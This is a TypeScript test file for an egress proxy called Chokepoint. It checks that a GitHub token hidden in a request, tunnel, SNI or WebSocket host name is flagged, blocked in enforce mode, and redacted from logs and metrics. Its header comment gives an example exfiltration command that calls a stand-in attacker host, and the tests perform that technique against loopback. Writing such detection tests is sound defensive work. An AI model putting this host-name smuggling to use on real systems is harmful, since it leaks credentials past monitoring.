// A secret in the host name of a request or tunnel (`curl http://ghp_<token>.attacker.example/`,
// `CONNECT <token>.attacker.example:443`), through a real Chokepoint on loopback: found and
// recorded as a `host` finding, refused before any lookup where the pool blocks, and never
// written down (access log, refusal, metrics).
import type net from 'node:net';
import tls from 'node:tls';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { generators } from './corpus/gen/github.js';
import { createRng } from './corpus/rng.js';
import { basicAuth, openTunnel, rawRequest, scrapeMetrics } from './helpers/clients.js';
import { startHttpOrigin, type Origin } from './helpers/origin.js';
import { startTestProxy, type TestProxy } from './helpers/proxy.js';

const TOKEN = generators['github-pat-classic']?.(createRng(73)) ?? '';
const HOST = `${TOKEN}.evil.test`;
/** How the proxy writes the host once normalised: what a log would have shown. */
const LOWER = TOKEN.toLowerCase();
const AUDIT = basicAuth('watch', 'watch-token-0123456789');
const BLOCK = basicAuth('guard', 'guard-token-0123456789');
const PEEK = basicAuth('peek', 'peek-token-0123456789');

let origin: Origin;
let proxy: TestProxy;
/** Every name the proxy's resolver was asked for. */
const asked: string[] = [];

async function resolve(host: string): Promise<string[]> {
  asked.push(host);
  if (host === 'clean.test' || host.endsWith('.evil.test')) return ['127.0.0.1'];
  throw Object.assign(new Error(`ENOTFOUND ${host}`), { code: 'ENOTFOUND' });
}

beforeAll(async () => {
  origin = await startHttpOrigin();
  proxy = await startTestProxy(
    `
timeouts:
  connect: 1s
  idle: 3s
pools:
  - name: watch
    token: watch-token-0123456789
    mode: audit
    secrets:
      action: block
    allow: ["clean.test:${origin.port}"]
  - name: guard
    token: guard-token-0123456789
    mode: enforce
    secrets:
      action: block
    allow: ["127.0.0.1/32:${origin.port}", "clean.test:${origin.port}"]
  - name: peek
    token: peek-token-0123456789
    mode: audit
    tls:
      intercept: all
`,
    { resolve },
  );
});

afterAll(async () => {
  await proxy?.close();
  await origin?.close();
});

function get(host: string, auth: string, connection = 'Connection: close\r\n'): Promise<string> {
  return rawRequest(proxy.port, `GET http://${host}:${origin.port}/ HTTP/1.1\r\nHost: ${host}:${origin.port}\r\nProxy-Authorization: ${auth}\r\n${connection}\r\n`);
}

function header(reply: string, name: string): string | undefined {
  const line = reply
    .slice(0, reply.indexOf('\r\n\r\n'))
    .split('\r\n')
    .find((l) => l.toLowerCase().startsWith(`${name.toLowerCase()}:`));
  return line?.slice(line.indexOf(':') + 1).trim();
}

/** Nothing Chokepoint wrote holds the token, in the case it was sent or lower-cased. */
/**
 * A ClientHello naming `servername` through an opened tunnel, then close it (the origin
 * speaks no TLS: the handshake fails, the name was read).
 */
async function sendHello(socket: net.Socket, servername: string): Promise<void> {
  const client = tls.connect({ socket, servername, rejectUnauthorized: false });
  client.on('error', () => undefined);
  await new Promise((r) => setTimeout(r, 200));
  client.destroy();
  socket.destroy();
}

function expectNeverWritten(text: string): void {
  expect(text).not.toContain(TOKEN);
  expect(text).not.toContain(LOWER);
  expect(text).not.toContain(TOKEN.slice(4, 20));
  expect(text.toLowerCase()).not.toContain(LOWER.slice(4, 20));
}

const hostFindings = (kind: string): Array<Record<string, unknown>> => proxy.lines().filter((l) => l.msg === 'finding' && l.source === 'host' && l.kind === kind);

describe('a secret in the host name, audit pool', () => {
  test('a plain HTTP request is forwarded and records one host finding; the log shows the host redacted', async () => {
    expect(TOKEN).toMatch(/^ghp_[A-Za-z0-9]{36}$/);
    const before = origin.received.length;
    const reply = await get(HOST, AUDIT);
    expect(reply.startsWith('HTTP/1.1 200')).toBe(true);
    expect(origin.received.length).toBe(before + 1);
    const line = await proxy.waitForLine((l) => l.kind === 'http' && l.pool === 'watch');
    expect(line).toMatchObject({ host: '[redacted 40].evil.test', findings: 1, decision: 'audit', reason: 'secret-exfiltration' });
    const found = hostFindings('http');
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ pool: 'watch', host: '[redacted 40].evil.test', rule: 'github-pat-classic', verdict: 'exfiltration', action: 'alert', redacted: 'ghp_…(40)' });
    expect(found[0]?.fingerprint).toMatch(/^[0-9a-f]{16}$/);
    // The Host header is that same name: not a second finding.
    expect(proxy.lines().filter((l) => l.msg === 'finding' && l.kind === 'http')).toHaveLength(1);
    expectNeverWritten(proxy.rawLog());
  });

  test('a CONNECT records one host finding; the tunnel line shows host and sni redacted', async () => {
    const t = await openTunnel(proxy.port, `${HOST}:${origin.port}`, { 'Proxy-Authorization': AUDIT });
    expect(t.status).toBe(200);
    await sendHello(t.socket, HOST);
    const line = await proxy.waitForLine((l) => l.kind === 'connect' && l.pool === 'watch');
    expect(line).toMatchObject({ host: '[redacted 40].evil.test', sni: '[redacted 40].evil.test', findings: 1, decision: 'audit', reason: 'secret-exfiltration' });
    const found = hostFindings('connect');
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ source: 'host', rule: 'github-pat-classic', host: '[redacted 40].evil.test' });
    expectNeverWritten(proxy.rawLog());
  });
});

describe('a secret in the SNI of a tunnel for another name', () => {
  test('an audit pool lets the sni-mismatch through; the SNI is a host finding and its line shows it redacted', async () => {
    const t = await openTunnel(proxy.port, `clean.test:${origin.port}`, { 'Proxy-Authorization': AUDIT });
    expect(t.status).toBe(200);
    await sendHello(t.socket, HOST);
    const line = await proxy.waitForLine((l) => l.kind === 'connect' && l.host === 'clean.test');
    expect(line).toMatchObject({ pool: 'watch', sni: '[redacted 40].evil.test', decision: 'audit', reason: 'sni-mismatch', findings: 1 });
    const found = proxy.lines().filter((l) => l.msg === 'finding' && l.kind === 'connect' && l.host === 'clean.test');
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ source: 'host', rule: 'github-pat-classic', verdict: 'exfiltration' });
    expectNeverWritten(proxy.rawLog());
  });
});

describe('a secret in the host name, enforce pool with secrets.action block', () => {
  test('plain HTTP is refused with secret-exfiltration, and the name is never looked up', async () => {
    const before = origin.received.length;
    const lookups = asked.length;
    const reply = await get(HOST, BLOCK);
    expect(reply.startsWith('HTTP/1.1 403')).toBe(true);
    expect(header(reply, 'x-chokepoint-reason')).toBe('secret-exfiltration');
    expect(header(reply, 'x-chokepoint-rule')).toBe('github-pat-classic');
    expectNeverWritten(reply);
    expect(origin.received.length).toBe(before);
    const line = await proxy.waitForLine((l) => l.kind === 'http' && l.pool === 'guard');
    expect(line).toMatchObject({ host: '[redacted 40].evil.test', status: 403, decision: 'deny', reason: 'secret-exfiltration', findings: 1 });
    expect(line).not.toHaveProperty('address');
    expect(asked.slice(lookups)).toEqual([]);
  });

  test('a CONNECT is refused as a policy deny is, before any lookup or connection', async () => {
    const lookups = asked.length;
    const t = await openTunnel(proxy.port, `${HOST}:${origin.port}`, { 'Proxy-Authorization': BLOCK });
    t.socket.destroy();
    expect(t.status).toBe(403);
    expect(header(t.head, 'x-chokepoint-reason')).toBe('secret-exfiltration');
    expectNeverWritten(t.head);
    expect(asked.length).toBe(lookups);
    const line = await proxy.waitForLine((l) => l.kind === 'connect' && l.pool === 'guard');
    expect(line).toMatchObject({ host: '[redacted 40].evil.test', status: 403, decision: 'deny', reason: 'secret-exfiltration', findings: 1 });
    expect(hostFindings('connect').filter((f) => f.pool === 'guard')).toEqual([expect.objectContaining({ action: 'block', verdict: 'exfiltration' })]);
  });

  test('a WebSocket upgrade is refused the same way', async () => {
    const lookups = asked.length;
    const reply = await get(HOST, BLOCK, 'Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n');
    expect(reply.startsWith('HTTP/1.1 403')).toBe(true);
    expect(header(reply, 'x-chokepoint-reason')).toBe('secret-exfiltration');
    expect(asked.length).toBe(lookups);
    const line = await proxy.waitForLine((l) => l.kind === 'websocket' && l.pool === 'guard');
    expect(line).toMatchObject({ host: '[redacted 40].evil.test', reason: 'secret-exfiltration', findings: 1 });
  });
});

describe('a secret in the host name of an intercepted tunnel', () => {
  test('the requests inside show the tunnel host as its line does', async () => {
    const t = await openTunnel(proxy.port, `${HOST}:${origin.port}`, { 'Proxy-Authorization': PEEK });
    expect(t.status).toBe(200);
    // The client does not check our leaf; the origin speaks no TLS, so the request fails upstream: its line is what counts.
    const client = tls.connect({ socket: t.socket, servername: HOST, rejectUnauthorized: false });
    const answer = await new Promise<string>((resolve) => {
      let text = '';
      const timer = setTimeout(() => resolve(text), 10_000);
      client.on('data', (d: Buffer) => (text += d.toString('latin1')));
      client.once('secureConnect', () => client.write(`GET /inside HTTP/1.1\r\nHost: ${HOST}:${origin.port}\r\nConnection: close\r\n\r\n`));
      client.on('error', () => undefined);
      client.once('close', () => {
        clearTimeout(timer);
        resolve(text);
      });
    });
    client.destroy();
    t.socket.destroy();
    expect(answer).toMatch(/^HTTP\/1\.1 502 /);
    expectNeverWritten(answer);
    const inner = await proxy.waitForLine((l) => l.kind === 'intercept' && l.pool === 'peek');
    expect(inner).toMatchObject({ host: '[redacted 40].evil.test', path: '/inside' });
    const tunnel = await proxy.waitForLine((l) => l.kind === 'connect' && l.pool === 'peek');
    expect(tunnel).toMatchObject({ host: '[redacted 40].evil.test', sni: '[redacted 40].evil.test', intercepted: true, findings: 1 });
    for (const f of proxy.lines().filter((l) => l.msg === 'finding' && l.pool === 'peek')) expect(f.host).toBe('[redacted 40].evil.test');
    expectNeverWritten(proxy.rawLog());
  });
});

describe('a clean host', () => {
  test('is unaffected: looked up, forwarded, and logged as it was', async () => {
    const lookups = asked.length;
    const reply = await get('clean.test', BLOCK);
    expect(reply.startsWith('HTTP/1.1 200')).toBe(true);
    expect(asked.slice(lookups)).toEqual(['clean.test']);
    const line = await proxy.waitForLine((l) => l.kind === 'http' && l.host === 'clean.test');
    expect(line).toMatchObject({ pool: 'guard', host: 'clean.test', port: origin.port, address: '127.0.0.1', decision: 'allow', destination: `clean.test:${origin.port}`, status: 200, findings: 0, path: '/' });
    expect(line).not.toHaveProperty('reason');
  });
});

describe('metrics', () => {
  test('count host findings by source, and no label carries the name', async () => {
    const text = await scrapeMetrics(proxy.adminPort);
    expect(text).toMatch(/chokepoint_secret_findings_total\{[^}]*source="host"[^}]*\} [1-9]/);
    expectNeverWritten(text);
    expectNeverWritten(proxy.rawLog());
  });
});
